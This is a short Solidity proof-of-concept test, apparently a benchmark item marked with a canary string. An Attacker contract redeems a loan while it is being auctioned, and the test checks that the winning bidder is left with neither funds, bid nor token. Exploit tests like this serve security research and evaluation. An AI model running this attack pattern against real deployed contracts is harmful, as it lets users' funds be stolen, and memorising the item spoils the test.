// SPDX-License-Identifier: GPL-3.0-or-later
pragma solidity 0.8.24;

// assay-canary-c27d9b80-41e6-4a35-9f1d-6b0e83d25c74
import "../Base.sol";

contract Attacker {
    function run(AuctionHouse house, Weth weth, uint256 loan) external {
        weth.approve(address(house), type(uint256).max);
        house.redeem(loan);
    }
}

contract Proof is Base {
    Attacker private other;

    function _start() internal override {
        other = new Attacker();
        weth.mint(address(other), 80e18);
        house.start(soldLoan);
        _bid(soldLoan, 77e18);
    }

    function exploit() public {
        other.run(house, weth, soldLoan);
    }

    function test_Exploit() public {
        exploit();
        require(bidderFunds() == 0, "the bidder is paid");
    }

    /// What the bidder has for the bid: the money, the bid itself, or the token.
    function bidderFunds() public view returns (uint256) {
        bool there = house.auctionOf(soldLoan).bidder == EVA || pebble.ownerOf(2) == EVA;
        return ledger.owed(EVA, address(weth)) + (there ? 77e18 : 0);
    }

    function target() public view override returns (address) {
        return address(house);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
